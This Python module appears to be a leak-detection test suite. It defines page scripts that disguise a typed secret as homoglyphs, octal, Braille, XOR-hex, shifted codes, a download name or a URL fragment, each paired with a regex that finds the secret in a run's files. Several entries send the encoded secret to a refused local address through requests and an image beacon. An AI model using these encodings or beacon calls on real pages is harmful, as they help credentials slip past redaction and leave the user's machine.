# ruff: noqa: E501 - pages of attacks are one line each
"""Spellings of a typed secret, and places on a page, in which it may stand in the files of a run."""

from __future__ import annotations

import re
from dataclasses import dataclass

from .attack import SECRET, form

BITS = " ".join(f"{ord(each):08b}" for each in SECRET)
OCTAL = "".join(f"\\{ord(each):o}" for each in SECRET)
HOMOGLYPHS = {"F": "Ϝ", "i": "і", "g": "ɡ", "O": "О", "t": "т", "e": "е", "r": "г", "k": "к", "W": "Ԝ", "z": "ᴢ"}
LOOKALIKE = "".join(HOMOGLYPHS.get(each, each) for each in SECRET)
BRAILLE = "".join(chr(0x2800 + ord(each)) for each in SECRET)
EMOJI = "".join(chr(0x1F400 + ord(each)) for each in SECRET)
MARKED = "".join(f"{each}\u0301\ufe0e" for each in SECRET)


def xored(key: int) -> str:
    """Return the secret "encrypted", in hexadecimal digits."""
    return bytes(ord(each) ^ key for each in SECRET).hex()


def shifted(by: int) -> str:
    """Return the secret as decimal codes, to each of which a number is added."""
    return "-".join(f"{ord(each) + by:03d}" for each in SECRET)


BOLD = "".join(
    chr((0x1D41A - 97 if each.islower() else 0x1D400 - 65 if each.isupper() else 0x1D7CE - 48) + ord(each)) if each.isalnum() else each
    for each in SECRET
)


@dataclass(frozen=True)
class Spelling:
    """A page that shows the typed secret, and the pattern by which it is found in files."""

    name: str
    page: str
    pattern: str = ""
    """Searched in each file, escapes of JSON, HTML and addresses undone. Empty: pictures are searched for magenta."""


def shown(name: str, script: str, text: str | list[str], before: str = "") -> Spelling:
    """Return a page whose script shows the typed secret, `v`. `text`: its form in a file, or its parts, which follow each other soon."""
    parts = [text] if isinstance(text, str) else text
    return Spelling(name, form(script, before), r"[\s\S]{1,90}?".join(map(re.escape, parts)))


def say(text: str) -> str:
    """Return a script that adds a paragraph."""
    return f"document.body.append(Object.assign(document.createElement('p'), {{textContent: {text}}}))"


ATTACKS: tuple[Spelling, ...] = (
    shown("pairs_backwards_in_cells", "box.innerHTML = v.match(/../g).map(x => `<td>${x[1]}${x[0]}</td>`).join('')", [SECRET[at + 1] + SECRET[at] for at in range(0, len(SECRET), 2)],
          "<table><tr id=box></table>"),
    shown("lookalikes", f"const m = {HOMOGLYPHS}; " + say("[...v].map(c => m[c] || c).join('')"), LOOKALIKE),
    shown("bold_letters_in_a_label", f"document.body.append(Object.assign(document.createElement('button'), {{ariaLabel: [...v].map(c => ({dict(zip(SECRET, BOLD, strict=True))})[c] || c).join('')}}))", BOLD),
    shown("octal", say(r"bytes(v).map(c => '\\' + c.toString(8)).join('')"), OCTAL),
    shown("binary_in_an_alternative_text", "document.body.append(Object.assign(new Image(9, 9), {alt: bytes(v).map(c => c.toString(2).padStart(8, '0')).join(' ')}))", BITS),
    shown("braille_in_the_title", "document.title = bytes(v).map(c => String.fromCharCode(0x2800 + c)).join('')", BRAILLE),
    shown("every_second_letter", "document.body.insertAdjacentHTML('beforeend', `<a href=/x title='${[...v].filter((c, i) => i % 2 == 0).join('')}'>${[...v].filter((c, i) => i % 2).join('')}</a>`)", [SECRET[::2], SECRET[1::2]]),
    shown("letters_with_marks", say("[...v].map(c => c + '\\u0301\\ufe0e').join('')"), MARKED),
    shown("address_that_is_refused", "await get('http://127.0.0.9:9/@name/' + hex(bytes(v).map(c => c ^ 17))); new Image().src = 'http://127.0.0.9:9/@name?' + hex(bytes(v).map(c => c ^ 17))", xored(17)),
    shown("post_that_is_refused", "await get('@other/@name/' + bytes(v).map(c => String(c + 5).padStart(3, '0')).join('-'), {method: 'POST', body: v})", shifted(5)),
    shown("name_of_a_download", "a.href = URL.createObjectURL(new Blob(['x'])); a.download = bytes(v).map(c => String(c + 9).padStart(3, '0')).join('-') + '.txt'; a.click()", shifted(9), "<a id=a hidden>x</a>"),
    shown("dialog", "alert(emoji(v))", EMOJI),
    shown("address_of_the_page", "history.replaceState(0, '', '#/' + hex(bytes(v).map(c => c ^ 99)))", xored(99)),
    Spelling("letters_in_another_order", form("[...v].map((c, i) => [(i * 7) % 16, c]).sort((a, b) => a[0] - b[0]).forEach(([n, c], i) => { const b = document.createElement('b'); b.textContent = c;"
             "b.style.order = n * 7 % 16; box.append(b) })", "<div id=box style='display:flex;font:60px monospace;color:#f0f'></div>")),
)  # fmt: skip
